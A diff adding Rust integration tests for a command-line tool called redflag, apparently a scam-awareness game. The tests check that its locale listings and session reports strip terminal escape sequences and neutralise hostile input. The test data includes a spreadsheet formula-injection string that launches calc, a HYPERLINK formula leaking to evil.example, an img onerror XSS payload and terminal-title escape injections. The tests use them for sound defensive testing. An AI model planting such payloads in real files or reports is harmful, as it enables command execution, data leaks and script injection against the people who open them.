@@ -181,3 +181,199 @@ fn nested_calls_are_too_deep_not_a_stack_overflow() {
         .write_stdin("q\n"));
     assert_eq!(code, 0, "{stderr}");
 }
+
+const ESCAPES: [char; 5] = ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{0}'];
+
+fn assert_no_escapes(what: &str, text: &str) {
+    for c in ESCAPES {
+        assert!(!text.contains(c), "{what}: {c:?} got through: {text:?}");
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn locale_folders_and_meta_with_escapes_are_printed_clean() {
+    let dir = mini();
+    write(dir.path(), "locales/x\u{1b}]0;owned\u{7}/meta.ftl", "locale-name = X\nlocale-status = partial\n");
+    write(
+        dir.path(),
+        "locales/fil/meta.ftl",
+        "locale-name = \u{1b}]0;title\u{7}Filipino\nlocale-status = \u{1b}[2Jcomplete\u{9b}31m\n",
+    );
+    for format in ["human", "json"] {
+        let (_, stdout, stderr) = run(redflag().args(["locales", "--format", format, "--content"]).arg(dir.path()));
+        assert_no_escapes(format, &stdout);
+        assert_no_escapes(format, &stderr);
+        assert!(stdout.contains("complete") && stdout.contains("Filipino"), "{stdout}");
+    }
+}
+
+#[test]
+fn locales_init_knows_english_in_any_case() {
+    let dir = mini();
+    let (code, _, stderr) = run(redflag().args(["locales", "init", "EN", "--content"]).arg(dir.path()));
+    assert_eq!(code, 2, "{stderr}");
+    assert!(!dir.path().join("locales/EN").exists());
+    let (code, _, stderr) = run(redflag().args(["locales", "init", "ZH-hant", "--content"]).arg(dir.path()));
+    assert_eq!(code, 0, "{stderr}");
+    assert!(dir.path().join("locales/zh-Hant/meta.ftl").exists());
+    let (code, _, stderr) = run(redflag().args(["locales", "init", "zh-HANT", "--content"]).arg(dir.path()));
+    assert_eq!(code, 2, "a second zh-Hant: {stderr}");
+}
+
+fn record(extra: &str) -> String {
+    format!(
+        r#"{{"format":1,"game":"0.1.0","scenario":"mini","locale":"en","seed":1,"started":"2026-11-25T09:00:00Z","ended":"2026-11-25T09:06:00Z","seconds":360,"finished":false,"outcome":null,"path":[],"spotted":[],"missed":["pay-too-good"]{extra}}}"#
+    )
+}
+
+#[test]
+fn the_report_checks_records_and_keeps_one_per_session() {
+    let dir = tempfile::tempdir().unwrap();
+    let lines = [
+        // One session, left and resumed: two records, the later one counts.
+        record(r#","session":"0123456789abcdef0123456789abcdef""#),
+        record(r#","session":"0123456789abcdef0123456789abcdef""#)
+            .replace("\"finished\":false,\"outcome\":null", "\"finished\":true,\"outcome\":\"safe\"")
+            .replace("09:06:00Z", "09:09:00Z"),
+        // An older record, without an id: its own session.
+        record(""),
+        // Not to be trusted, each skipped with a warning naming its line.
+        record("").replace("\"format\":1", "\"format\":0"),
+        record("").replace("\"seconds\":360", "\"seconds\":18446744073709551615"),
+        record(r#","participant":"\u0000session-0""#),
+        record("").replace("\"seed\":1", "\"seed\":\"\\u001b]0;owned\\u0007\\u001b[2J\""),
+        record("").replace("\"scenario\":\"mini\"", "\"scenario\":\"=cmd|' /C calc'!A0\""),
+    ];
+    write(dir.path(), "r\u{1b}[2J.jsonl", &(lines.join("\n") + "\n"));
+    let (code, stdout, stderr) =
+        run(redflag().args(["report", "--format", "json"]).arg(dir.path().join("r\u{1b}[2J.jsonl")));
+    assert_eq!(code, 0, "{stderr}");
+    assert_no_escapes("stderr", &stderr);
+    for line in 4..=8 {
+        assert!(stderr.contains(&format!(".jsonl:{line}: skipped")), "line {line}: {stderr}");
+    }
+    assert_eq!(stderr.matches("skipped").count(), 5, "{stderr}");
+    let rep: serde_json::Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(rep["sessions"], 2, "{stdout}");
+    assert_eq!(rep["finished"], 1, "{stdout}");
+    assert_eq!(rep["participants"], 0, "{stdout}");
+}
+
+#[test]
+fn report_cells_are_not_formulas_links_images_or_html() {
+    let dir = mini();
+    let records = dir.path().join("r.jsonl");
+    std::fs::write(&records, record("") + "\n").unwrap();
+    edit(
+        dir.path(),
+        "locales/en/mini.ftl",
+        "mini-title = A small test",
+        "mini-title = =HYPERLINK(\"http://evil.example/?leak\", \"open\")",
+    );
+    let (code, csv, stderr) =
+        run(redflag().args(["report", "--format", "csv", "--content"]).arg(dir.path()).arg(&records));
+    assert_eq!(code, 0, "{stderr}");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let mut seen = false;
+    for row in reader.records() {
+        for cell in row.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula: {cell:?}");
+            seen |= cell == "'=HYPERLINK(\"http://evil.example/?leak\", \"open\")";
+        }
+    }
+    assert!(seen, "the name is kept, as text: {csv}");
+
+    edit(
+        dir.path(),
+        "locales/en/mini.ftl",
+        "mini-title = =HYPERLINK(\"http://evil.example/?leak\", \"open\")",
+        "mini-title = ![x](http://tracker.example/p.png) <img src=x onerror=alert(1)> [click](http://evil.example)",
+    );
+    let (code, md, stderr) =
+        run(redflag().args(["report", "--format", "md", "--content"]).arg(dir.path()).arg(&records));
+    assert_eq!(code, 0, "{stderr}");
+    for bad in ["![", "](", "<img"] {
+        assert!(!md.contains(bad), "{bad} in {md}");
+    }
+    assert!(md.contains("tracker.example"), "the words stay: {md}");
+}
+
+#[test]
+fn a_record_is_written_once_however_often_it_is_asked() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("r.jsonl");
+    let mut r: redflag::results::Record = serde_json::from_str(&record(r#","session":"00000000000000aa""#)).unwrap();
+    redflag::results::append_once(&path, &r).unwrap();
+    // The same record taken a moment later (the signal thread's copy): not written again.
+    r.ended = "2026-11-25T09:06:01Z".into();
+    r.seconds += 1;
+    redflag::results::append_once(&path, &r).unwrap();
+    // The session went on: a new record of it.
+    r.path.push(redflag::engine::Step { node: "ad".into(), choice: Some("apply".into()) });
+    redflag::results::append_once(&path, &r).unwrap();
+    let (records, bad) = redflag::results::read(&path).unwrap();
+    assert!(bad.is_empty(), "{bad:?}");
+    assert_eq!(records.len(), 2);
+
+    // The slot both the game and the signal thread write from is emptied by the first.
+    let pending: redflag::signals::Pending = Default::default();
+    r.path.push(redflag::engine::Step { node: "chat".into(), choice: Some("pay".into()) });
+    redflag::signals::set(&pending, Some((path.clone(), r)));
+    redflag::signals::write_pending(&pending).unwrap();
+    redflag::signals::write_pending(&pending).unwrap();
+    assert_eq!(redflag::results::read(&path).unwrap().0.len(), 3);
+}
+
+/// Plain mode, ended from outside mid-session: the record of the session so far is written, as in the TUI.
+#[cfg(unix)]
+#[test]
+fn plain_mode_writes_the_record_on_sigint_sigterm_and_sighup() {
+    use std::io::{BufRead, Write};
+    use std::process::{Command, Stdio};
+    let dir = mini();
+    for (sig, code) in [("INT", 130), ("TERM", 143), ("HUP", 129)] {
+        let home = tempfile::tempdir().unwrap();
+        let res = home.path().join("r.jsonl");
+        let mut child = Command::new(env!("CARGO_BIN_EXE_redflag"))
+            .env("LANG", "C")
+            .env("LC_ALL", "C")
+            .env("XDG_DATA_HOME", home.path().join("data"))
+            .env("XDG_CONFIG_HOME", home.path().join("config"))
+            .args(["play", "mini", "--plain", "--seed", "1", "--quiz", "pre", "--results"])
+            .arg(&res)
+            .arg("--content")
+            .arg(dir.path())
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let mut stdin = child.stdin.take().unwrap();
+        let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
+        // The quiz before, then the first choice; then wait for its feedback before the signal.
+        stdin.write_all(b"6\n6\n1\n").unwrap();
+        stdin.flush().unwrap();
+        let mut line = String::new();
+        loop {
+            line.clear();
+            assert!(out.read_line(&mut line).unwrap() > 0, "{sig}: the game ended early");
+            if line.contains("The pay is far above") {
+                break;
+            }
+        }
+        let ok = Command::new("kill").arg(format!("-{sig}")).arg(child.id().to_string()).status().unwrap();
+        assert!(ok.success());
+        let status = child.wait().unwrap();
+        assert_eq!(status.code(), Some(code), "{sig}");
+        let (records, bad) = redflag::results::read(&res).unwrap();
+        assert!(bad.is_empty(), "{bad:?}");
+        assert_eq!(records.len(), 1, "{sig}: exactly one record");
+        let r = &records[0];
+        assert!(!r.finished);
+        assert_eq!(r.path.len(), 1, "{sig}: the choice made is in the record");
+        assert!(r.quiz_pre.is_some(), "{sig}: the quiz before is in the record");
+        assert!(r.session.is_some());
+        drop(stdin);
+    }
+}
